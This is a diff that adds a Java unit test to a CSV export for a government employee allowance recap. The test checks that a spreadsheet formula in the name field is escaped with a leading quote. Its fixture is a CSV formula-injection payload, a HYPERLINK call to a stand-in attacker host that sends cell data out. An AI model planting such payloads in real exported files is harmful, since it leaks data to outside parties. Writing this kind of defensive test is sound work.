@@ -80,6 +80,16 @@ class TppCsvTest {
     }
 
     @Test
+    void neverHandsASpreadsheetAFormula() throws IOException {
+        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
+        RecapReport report = NovemberRecap.report(null, true, NovemberRecap.section("DISDUKCAPIL",
+                "Dinas Kependudukan dan Pencatatan Sipil", null, List.of(new RecapReport.Line(1, SITI_NIP,
+                        formula, null, "DISDUKCAPIL", NovemberRecap.diskominfo().lines().get(0).recap()))));
+
+        assertThat(records(written(report)).get(0).get("nama")).isEqualTo("'" + formula);
+    }
+
+    @Test
     void writesOnlyTheHeaderForAnOpdWithoutEmployees() throws IOException {
         assertThat(lines(written(NovemberRecap.opdWithoutEmployees()))).hasSize(1);
     }
